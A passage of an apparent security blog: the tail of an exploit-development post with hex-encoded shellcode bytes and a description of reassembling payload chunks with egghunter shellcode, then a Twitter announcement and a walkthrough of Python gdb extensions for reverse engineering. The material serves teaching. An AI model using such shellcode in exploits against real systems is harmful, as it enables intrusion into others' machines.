"\x20\xf3\xd1\xf6\x9e\xb5\x8b\xb8\x48\x6c\x67\x13\x1c\xe9" ."\x4b\xa4\x5a\xf6\x81\x52\x82\x47\x7c\x23\xbd\x68\xe8\xa3" .
"\xc6\x94\x88\x4c\x1d\x1d\xb8\x06\x3f\x34\x51\xcf\xaa\x04" .
"\x3c\xf0\x01\x4a\x39\x73\xa3\x33\xbe\x6b\xc6\x36\xfa\x2b" .

Now you would insert these various sets of bad data into your exploit in the appropriate places, and when the egghunter shellcode is executed, it should be able to find the chunks of the final payload in memory, piece them together on the stack, and then pass control to it when all parts are found.

Id be interested to know if you find this useful.  Perhaps someone has even written an example program which could be exploited with the use of this shellcode if you would like to test it... (*cough* GTER *cough*).

Welcome to 2006 - Im now on Twitter

After a long period of persistently avoiding social media, I have now moved (somewhat) into the Web 2.0 age and am now on Twitter, where I semi-regularly dispense 140 character packages of fun and frivolity.

So, if you like seeing pictures of cats dressed up as people, feel free to follow me - there's a button over on the side panel, or you can look me up by my Twitter name @SM_Bradshaw.

Sunday, October 20, 2013

My Python gdb Extensions


If you started to learn reverse engineering and exploit development on 32 bit Windows systems as I did, you were probably very unimpressed when you first attempted to try out your skills on *nix machines and started (trying to) use gdb.  I know I was.

Gdb is quite powerful, but it seems to be focused more on debugging applications with source and debug symbols.  While its certainly possible to debug applications while only having access to the stripped binary, a lot of gdb's frequently used features aren't that useful.  Gdb wasnt designed with a focus on reverse engineering in mind, and neither were a lot of the various gdb GUI front ends.  Things that are simple in OllyDbg such as getting an immediate view of the stack, disassembly and registervalues every time the program stopped, or searching for a particular value through all of program memory are just painful.

Thats why the last time I had to reverse engineer an application on Mac OSX, I wrote some extensions for gdb using the Python API that was added to gdb in version 7.  These extensions consisted of a few new gdb commands, aswell as some nifty hooks that enabled me to get the necessary information out of the program in a way that I was familiar with.

The additional commands I added provide new ways to view register values, program memory, the stack, to do assembly level stepping and to search program memory.  There are also hooks that allow certain program data to be sent to fifos every time program execution pauses.  In practice, this allows me to have output like this:

gdb lookin like Olly!

What you see above is a terminal window with multiple panes.  The main pane, on the bottom left is running gdb, with a program currently in the paused state..  The other panes are running the tail command on different fifo pipes, and showing output from gdb relating to the programs disassembly, registers and stack, including some contextual information such as any strings or hex data that might be referenced by the various registers or stack entries.

The idea was to get the break output from gdb as close to the information provided by OllyDbg without having to code up an entire GUI fronted, and after having used the interface for a few weeks I think its a reasonable facsimile. Its not possible to right click on anything as you can in OllyDbg,obviously, but most of that stuff can be done from the gdb command line.  This does however allow you to easily see at a glance most of the important stuff that Olly can show you when you're spending a while stepping through a program waiting for something interesting to happen.


This code has been tested on Mac OSX Mountain Lion and Linux, and works for both 32 and 64 bit processes.  Ive tested this using Python 2.7 and the Mac Ports version of gdb on OSX, and the Ubuntu 13.04 repository version of gdb on Linux, but other versions of gdb over 7 and Pythons over 2.5 SHOULD work too.  Probably. The Python gdb extensions seemed to have 'evolved' a little bit since they were first introduced in gdb 7 – to the extent that some of the early examples of code you can find for creating gdb extensions in Python don't actually work any more.  Your version of gdb also needs to have been configured with the '--with-python' option, which I believe applies to most versions you will get in the various packaging systems around.

Most of the commands in this set of extensions should run on any system that supports the right version of gdb and Python, with the exception of the search commands (which required use of some OS specific memory listing commands) and the register display commands (because these use hard coded register name values, which I have only provided for x86 andamd64 processors).   The stack printer also assumes a little endian order, so if the processor you are using is big endian this wont display right either.

Note: If you're running this on OSX, please note that the Xcode Command Line tools version of gdb WILL NOT work, its too old and doesn't support the Python GDB extensions.  Install macports and their version of gdb.

Supported Commands

Heres a list of commands included:
  • save breakpoints - save breakpoints to a file.  These breakpoints can then be read back into a new session using the built in gdb 'source' command.  This is essentially a fixed version of a broken bit of example code I found on the 'Net.
  • readhexmemory - prints in hex format a given number of bytes from a given address in memory.
  • readhexdumpmemory - prints out a given number of lines (16 bytes per line) of a hex dump of memory starting at a given address. Each line contains the hex value for each byte as well as its ASCII representation, in a similar fashion as you would see in a Hex editor.
  • readstring - prints out any string located at a given address in memory.  Works with ASCII and basic Unicode strings.
  • searchstring - searches allocated program memory for a given string, and prints out all discovered instances along with their associated memory addresses.  Works for ASCII and simple Unicode strings.  Only linux and Masc OSX supported.  Warnings may appear when certain sections of memory cannot be searched – these are nothing to worry about.
  • searchbinary - searches allocated program memory for binary data, provided in hex format, e.g. 414243ae. Only linux and Masc OSX supported. Warnings may appear when certain sections of memory cannot be searched – these are nothing to worry about.
  • printstack- prints out a given number of lines of the stack view, including the address, the value stored in memory at that address and, if the stack entry could be interpreted as a pointer, any data (string if possible, hex if not) stored at that address.  If the number of lines is ommitted, a value of 10 is assumed.
  • printregisters – prints out the registers, along with contextual information of the data located at the memory address stored by each register.
  • printdisassembly – prints out the disassembly for the code located at the instruction pointer register.
  • fifodisplay – registers a number of handlers to automatically run the printstack, print registers and printdisassembly commands each time the program pauses, and to send the output to fifo pipes created in the current working directory named stack, registers and disassembly.  Combined with a multiple paned terminal window, can give you contextual information simialr to OllyDbg. Use the Stop parameter to disable the handlers.
  • no – Does an assembly level step operation that will skip over “call” function calls and wont break on newthreads.
  • ns – Does an assembly level step operation that will skip into “call” operations and wont break on new threads.


You can load these extensions by copying the Python file somewhere where your instance of gdb can see it and using the gdb source command to read it.  You should ideally load the extensions after attaching your file in gdb for debugging, because the load process runs a function to determine the architecture of the file being debugged, and future commands may fail if this is notsuccessful.  You'll get an error message if there are any problems with this setup function, or a success message if everything is OK.  If you get an error message just load the file again after fixing the problem.

Once the file is loaded correctly the commands listed above can be run like any other gdb command, including support for tab command completion and support for the inbuilt gdb help system.The fifodisplay command, which was responsible for the screenshot shown above, is a little more fiddly to setup however, so I will give a brief example of how to set it up below.

UPDATE: The usage of fifodisplay has changed a little since the 1.10 update to the extensions.  Now, instead of requiring you to run the tail commands to read the fifos from memory the first time the program pauses, running fifodisplay will now prompt you to setup each fifolistener individually immediately.  The fifo filesare also now stored in /tmp/ and are cleaned up by the extensions if you run 'fifodisplay stop' or if you exit gdb or stop debugging the target.

To summarise, this is what you need to do to set it up:

Have a terminal program that supports multiple panes.  Im using iTerm2 in the screenshot shown above for the Mac, and on Linux I use Terminator (the Gnome version).  Set up for different panes, all with the same present working directory, and run gdb in the bottom left pane.

Attach to the program you want to run in gdb, and load the extensions file into gdb using 'source' and run the program to a breakpoint.  Now run the fifodisplay command and make the program trigger a stop event in gdb.  The simplest way to do this is to step ahead by one assembly instruction ('stepi') or continue execution until you hit another breakpoint you have configured.

Now, in order, do a tail -f on the 'stack' file in the bottom right window, the 'registers' file in the top right window, and the 'disassembly' file in the top left window.  What you are doing here is displaying the content from fifo pipe files with these names that are created in the present working directory by the gdb event handlers created by the fifodisplay command. These files are created in this order, the first time the gdb instance stops after the fifodisplay command is run.  Gdb will appear to freeze up while it waits for you to run each of these tail commands, because its waiting for each of the fifo pipes to be read from before command execution can continue.  This will eventually time out if you take too long however – if this happens just 'stepi' once more and you can continue on from whereyou left off opening the fifo files.

When you want to disconnect the handlers, kill each of your tail commands and either run 'fifodisplay Stop' (case sensitive) in gdb, or quit the gdb session.  The fifo pipe files will not be deleted automatically, so on subsequent attempts you'll just be able to start your listening tail commands whenever you wish.  When you want to get rid of the fifo files, just delete them like any other file.

Usage Example

Here's a quick example of me using the fifodisplay command during a gdb session debugging /bin/ls.

First I setup a new terminal session with four panes. Then, in the bottom left hand pane I run gdb. Im using the macports version of gdb (the binary for this is called ggdb).
stephenbradshaw@lion:~$ ggdb /bin/ls
GNU gdb (GDB) 7.6
Copyright (C) 2013 Free Software Foundation, Inc.
License GPLv3+: GNU GPL version 3 or later
This is free software: you are free to change and redistribute it.
There is NO WARRANTY, to the extent permitted by law.  Type "show copying"
and "show warranty" for details.
This GDB was configured as "x86_64-apple-darwin12.3.0".
For bug reporting instructions, please see:
Reading symbols from /bin/ls...(no debugging symbols found)...done.

Within this running session of gdb, I then run commands to find the entry point ofthe program and set a breakpoint there
(gdb) info file
Symbols from "/bin/ls".
Local exec file:
 `/bin/ls', file type mach-o-x86-64.
 Entry point: 0x100000e0c
 0x0000000100000aa8 - 0x0000000100003e7b is .text
 0x0000000100003e7c - 0x000000010000403e is __TEXT.__stubs
 0x0000000100004040 - 0x000000010000433e is __TEXT.__stub_helper
 0x0000000100004340 - 0x00000001000044c8 is .const
 0x00000001000044c8 - 0x0000000100004900 is .cstring
 0x0000000100004900 - 0x0000000100004998 is __TEXT.__unwind_info
 0x0000000100004998 - 0x0000000100004ff8 is .eh_frame
 0x0000000100005000 - 0x0000000100005028 is __DATA.__got
 0x0000000100005028 - 0x0000000100005038 is __DATA.__nl_symbol_ptr
 0x0000000100005038 - 0x0000000100005290 is __DATA.__la_symbol_ptr
 0x0000000100005290 - 0x00000001000052b8 is .data
 0x00000001000052c0 - 0x00000001000054f0 is .const_data
 0x00000001000054f0 - 0x000000010000557c is __DATA.__common
 0x0000000100005580 - 0x0000000100005640 is .bss
(gdb) break *0x100000e0c
Breakpoint 1 at 0x100000e0c

Now I run the program til it hits the first breakpoint:
(gdb) r
Starting program: /bin/ls

Breakpoint 1, 0x0000000100000e0c in _mh_execute_header ()

Now I load the extensions and run the fifodisplay command:
(gdb) source
gdb extensions 1.00 loaded(gdb) fifodisplay

Now I step ahead by one assembly instruction. Execution will now seem to freeze in the debugger as it waits for each fifo pipe to be read from:
(gdb) stepi

At this point I ran the following commands, in this order, in the other panes of my terminal window:

Bottom right pane:
stephenbradshaw@lion:~$ tail -f stack

Top right pane:
stephenbradshaw@lion:~$ tail -f registers

Top left pane:
stephenbradshaw@lion:~$ tail -f disassembly

Now in the bottom left pane you should see the stepi command finish in gdb.
0x0000000100000e0d in _mh_execute_header ()

Now you should be able to continue your debugging session as normal, and every time program execution stops in gdb, the stack, register and disassembly information will be updated in each of the associated terminal panes.The updated version 1.10 of theextensions can be found here.